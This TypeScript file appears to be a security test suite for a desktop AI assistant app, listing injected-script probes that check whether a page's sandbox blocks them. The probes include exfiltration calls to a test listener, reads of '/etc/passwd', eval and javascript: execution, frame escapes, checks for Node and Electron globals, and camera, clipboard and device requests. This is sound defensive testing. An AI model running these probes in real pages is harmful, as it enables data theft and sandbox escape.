/**
 * What a page would try if somebody else's script ran in it, as that script: the body of an async function that gets the
 * `target`. It answers true when it was let through. What arrives at the listener, runs (`broken.push`) or opens is seen
 * from outside, whatever it answers.
 */
export interface Attack {
  kind: string;
  name: string;
  code: string;
}

function attacks(kind: string, table: Readonly<Record<string, string>>): Attack[] {
  return Object.entries(table).map(([name, code]) => ({ kind, name, code }));
}

/** Puts an element into the page. */
const element = (tag: string, properties: string, where = 'document.body'): string =>
  `${where}.append(Object.assign(document.createElement('${tag}'), ${properties}));`;

const svgUse = `const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
const use = document.createElementNS('http://www.w3.org/2000/svg', 'image');
use.setAttribute('href', target.http + '/svg'); svg.append(use); document.body.append(svg);`;

const call = (
  urls: string,
): string => `const call = new RTCPeerConnection({ iceServers: [{ urls: ${urls}, username: 'u', credential: 'c' }] });
call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer());
await new Promise((next) => setTimeout(next, 1500)); call.close();`;

/** Everything that could carry words out of the machine, or files into the page. */
const connections = attacks('connection', {
  fetch: "return (await fetch(target.http + '/fetch', { mode: 'no-cors' })) !== null;",
  'fetch of a file': "return (await fetch('file:///etc/passwd')).ok;",
  'fetch of the app’s own page': "return (await fetch('app://bundle/index.html')).ok;",
  'fetch of a data address': "return (await fetch('data:text/plain,x')).ok;",
  'fetch of a blob': "return (await fetch(URL.createObjectURL(new Blob(['x'])))).ok;",
  'fetch that outlives the page': "await fetch(target.http + '/keepalive', { keepalive: true });",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', target.http + '/xhr', false); x.send(); return true;",
  'XMLHttpRequest of a file':
    "const x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', false); x.send(); return true;",
  WebSocket: "new WebSocket(target.ws + '/socket');",
  EventSource: "new EventSource(target.http + '/events');",
  sendBeacon: "navigator.sendBeacon(target.http + '/beacon', 'words');",
  WebTransport: "await new WebTransport('https://' + target.host + ':' + target.udpPort).ready; return true;",
  'a call by way of a STUN server': call("'stun:' + target.host + ':' + target.udpPort"),
  'a call by way of a TURN server': call("'turn:' + target.host + ':' + target.tcpPort + '?transport=tcp'"),
  image: "new Image().src = target.http + '/image';",
  'image of a file': `return new Promise((resolve) => { const image = new Image(); image.onload = () => resolve(true);
    image.onerror = () => resolve(false); image.src = 'file:///usr/share/pixmaps/debian-logo.png'; });`,
  'image in SVG': svgUse,
  picture: element('img', "{ srcset: target.http + '/srcset 2x' }"),
  'style sheet': element('link', "{ rel: 'stylesheet', href: target.http + '/style' }", 'document.head'),
  'picture in a style': element('div', "{ style: 'background: url(' + target.http + '/background)' }"),
  'picture in a style, by script': "document.body.style.backgroundImage = 'url(' + target.http + '/by-script)';",
  '@import':
    "const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(' + target.http + '/sheet) }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];",
  font: "await new FontFace('x', 'url(' + target.http + '/font)').load(); return true;",
  script: element('script', "{ src: target.http + '/script' }"),
  module: element('script', "{ type: 'module', src: target.http + '/module' }"),
  'import()': "await import(target.http + '/import'); return true;",
  video: element('video', "{ src: target.http + '/video', preload: 'auto' }"),
  audio: "new Audio(target.http + '/audio').load();",
  prefetch: element('link', "{ rel: 'prefetch', href: target.http + '/prefetch' }", 'document.head'),
  preload: element('link', "{ rel: 'preload', as: 'image', href: target.http + '/preload' }", 'document.head'),
  modulepreload: element('link', "{ rel: 'modulepreload', href: target.http + '/modulepreload' }", 'document.head'),
  preconnect: element('link', "{ rel: 'preconnect', href: target.http }", 'document.head'),
  manifest: element('link', "{ rel: 'manifest', href: target.http + '/manifest' }", 'document.head'),
  icon: element('link', "{ rel: 'icon', href: target.http + '/icon' }", 'document.head'),
  'speculation rules': element(
    'script',
    "{ type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [target.http + '/rules'] }] }) }",
  ),
  ping: `const link = Object.assign(document.createElement('a'), { href: '#', ping: target.http + '/ping' });
    document.body.append(link); link.click();`,
});

/** Code that is not the app's own. After the first line nothing of the driver's rights is left. */
const code = attacks(
  'code',
  Object.fromEntries(
    Object.entries({
      eval: "eval('broken.push(1)');",
      Function: "new Function('broken.push(1)')();",
      'timer with a text': "setTimeout('broken.push(1)');",
      'script in the page': element('script', "{ textContent: 'broken.push(1)' }"),
      'script in HTML': "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"broken.push(1)\">');",
      'event handler': "document.body.setAttribute('onclick', 'broken.push(1)'); document.body.click();",
      'javascript: link':
        "const link = Object.assign(document.createElement('a'), { href: 'javascript:broken.push(1)' }); document.body.append(link); link.click();",
      'javascript: address': "location.href = 'javascript:broken.push(1)';",
      'javascript: in a frame': element('iframe', "{ src: 'javascript:parent.broken.push(1)' }"),
      'script of a data address': element('script', "{ src: 'data:text/javascript,broken.push(1)' }"),
      'script of a blob': element('script', "{ src: URL.createObjectURL(new Blob(['broken.push(1)'])) }"),
      'import() of a data address': "await import('data:text/javascript,globalThis.broken.push(1)');",
      'import() of a blob':
        "await import(URL.createObjectURL(new Blob(['broken.push(1)'], { type: 'text/javascript' })));",
      'script in a frame': element('iframe', "{ srcdoc: '<script>parent.broken.push(1)</script>' }"),
      'script in SVG':
        "document.body.insertAdjacentHTML('beforeend', '<svg><animate onbegin=\"broken.push(1)\" attributeName=x dur=1s /></svg>');",
      'worker of a blob':
        "await new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = resolve; worker.onerror = reject; }); return true;",
      'worker of a data address':
        "await new Promise((resolve, reject) => { const worker = new Worker('data:text/javascript,postMessage(1)'); worker.onmessage = resolve; worker.onerror = reject; }); return true;",
      'shared worker':
        "await new Promise((resolve, reject) => { const worker = new SharedWorker('data:text/javascript,onconnect=(e)=>e.ports[0].postMessage(1)'); worker.port.onmessage = resolve; worker.onerror = reject; }); return true;",
      'service worker': "await navigator.serviceWorker.register('/index.html'); return true;",
      WebAssembly: 'await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return true;',
      'Node of the page':
        "return ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron'].some((name) => name in globalThis);",
    }).map(([name, body]) => [name, `await new Promise((next) => setTimeout(next));\n${body}`]),
  ),
);

const elsewhere = [
  "target.http + '/page'",
  "'file:///etc/passwd'",
  "'data:text/html,x'",
  "'app://bundle/quick-ask.html'",
  "'mailto:a@b.c'",
  "'oasst://new'",
  "'oasst://open/models'",
  "'chrome://version'",
];

/** Ways to another page, another window or a file. */
const openings = [
  ...attacks('opening', {
    ...Object.fromEntries(elsewhere.map((to) => [`window at ${to}`, `return window.open(${to}) !== null;`])),
    ...Object.fromEntries(elsewhere.map((to) => [`going to ${to}`, `location.href = ${to};`])),
    'going to a blob': "location.href = URL.createObjectURL(new Blob(['<p>x'], { type: 'text/html' }));",
    'empty window': "return window.open('about:blank') !== null;",
    'window by a link':
      "const link = Object.assign(document.createElement('a'), { href: target.http + '/link', target: '_blank' }); document.body.append(link); link.click();",
    'middle click':
      "const link = Object.assign(document.createElement('a'), { href: target.http + '/middle' }); document.body.append(link); link.dispatchEvent(new MouseEvent('click', { button: 1, ctrlKey: true, bubbles: true }));",
    'form that is sent':
      "const form = Object.assign(document.createElement('form'), { action: target.http + '/form', method: 'post' }); document.body.append(form); form.submit();",
    'form in a new window':
      "const form = Object.assign(document.createElement('form'), { action: target.http + '/form', target: '_blank' }); document.body.append(form); form.submit();",
    refresh: element(
      'meta',
      "{ httpEquiv: 'refresh', content: '0; url=' + target.http + '/refresh' }",
      'document.head',
    ),
    base: element('base', "{ href: target.http + '/' }", 'document.head') + " new Image().src = 'base';",
    'another origin in the history': "history.pushState(null, '', target.http + '/history'); return true;",
    'frame of a page': element('iframe', "{ src: target.http + '/frame' }"),
    'frame of a file': element('iframe', "{ src: 'file:///etc/passwd' }"),
    'frame of a data address': element('iframe', "{ src: 'data:text/html,x' }"),
    'frame of the app': element('iframe', "{ src: 'app://bundle/index.html' }"),
    'frame of a blob': element('iframe', "{ src: URL.createObjectURL(new Blob(['x'], { type: 'text/html' })) }"),
    'frame with the app’s rights':
      "const frame = document.createElement('iframe'); document.body.append(frame); return 'assistant' in frame.contentWindow || 'quickAssistant' in frame.contentWindow;",
    object: element('object', "{ data: target.http + '/object' }"),
    embed: element('embed', "{ src: target.http + '/embed' }"),
    webview: element('webview', "{ src: target.http + '/webview' }"),
    'download of a page':
      "Object.assign(document.createElement('a'), { href: target.http + '/download', download: 'x' }).click();",
    'download of words':
      "Object.assign(document.createElement('a'), { href: 'data:text/plain,words', download: 'x.txt' }).click();",
    'download of a blob':
      "Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: 'x.exe' }).click();",
    'file that is picked': 'await showOpenFilePicker(); return true;',
    'folder that is picked': 'await showDirectoryPicker(); return true;',
    print: 'return typeof window.printToPDF === "function";',
  }),
];

const queried = [
  'camera',
  'microphone',
  'geolocation',
  'notifications',
  'midi',
  'clipboard-read',
  'persistent-storage',
  'background-sync',
  'accelerometer',
  'screen-wake-lock',
  'window-management',
  'local-fonts',
  'storage-access',
  'idle-detection',
];

/** Rights that a page can ask for, and devices. */
const permissions = attacks('permission', {
  ...Object.fromEntries(
    queried.map((name) => [
      `${name} as granted`,
      `return (await navigator.permissions.query({ name: '${name}' })).state === 'granted';`,
    ]),
  ),
  camera: 'await navigator.mediaDevices.getUserMedia({ video: true }); return true;',
  microphone: 'await navigator.mediaDevices.getUserMedia({ audio: true }); return true;',
  'screen of the desktop': 'await navigator.mediaDevices.getDisplayMedia({ video: true }); return true;',
  'desktop by its old name':
    "await navigator.mediaDevices.getUserMedia({ video: { mandatory: { chromeMediaSource: 'desktop' } } }); return true;",
  'names of devices': "return (await navigator.mediaDevices.enumerateDevices()).some(({ label }) => label !== '');",
  place:
    'await new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)); return true;',
  notices: "return (await Notification.requestPermission()) === 'granted';",
  'clipboard read': 'await navigator.clipboard.readText(); return true;',
  'clipboard with pictures': 'await navigator.clipboard.read(); return true;',
  'storage for ever': 'return navigator.storage.persist();',
  MIDI: 'await navigator.requestMIDIAccess({ sysex: true }); return true;',
  'USB device': 'await navigator.usb.requestDevice({ filters: [] }); return true;',
  'HID device': 'return (await navigator.hid.requestDevice({ filters: [] })).length > 0;',
  'serial port': 'await navigator.serial.requestPort(); return true;',
  'Bluetooth device': 'await navigator.bluetooth.requestDevice({ acceptAllDevices: true }); return true;',
  'idle time': "return (await IdleDetector.requestPermission()) === 'granted';",
  'other screens': 'await getScreenDetails(); return true;',
  fonts: 'return (await queryLocalFonts()).length > 0;',
  'key for a site':
    'await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), timeout: 500 } }); return true;',
  'whole screen': 'await document.documentElement.requestFullscreen(); return true;',
  pointer: 'await document.body.requestPointerLock(); return document.pointerLockElement !== null;',
  'keys of the system': 'await navigator.keyboard.lock(); return document.fullscreenElement !== null;',
});

/** Places in which a page could leave something behind, or fill the disk. */
const storage = attacks('storage', {
  cookie: "document.cookie = 'a=b'; return document.cookie !== '';",
  'cookie of the store': "await cookieStore.set('a', 'b'); return (await cookieStore.getAll()).length > 0;",
  'a cache of requests': "const cache = await caches.open('x'); await cache.add(target.http + '/cache'); return true;",
});

export const pageAttacks: readonly Attack[] = [...connections, ...code, ...openings, ...permissions, ...storage];
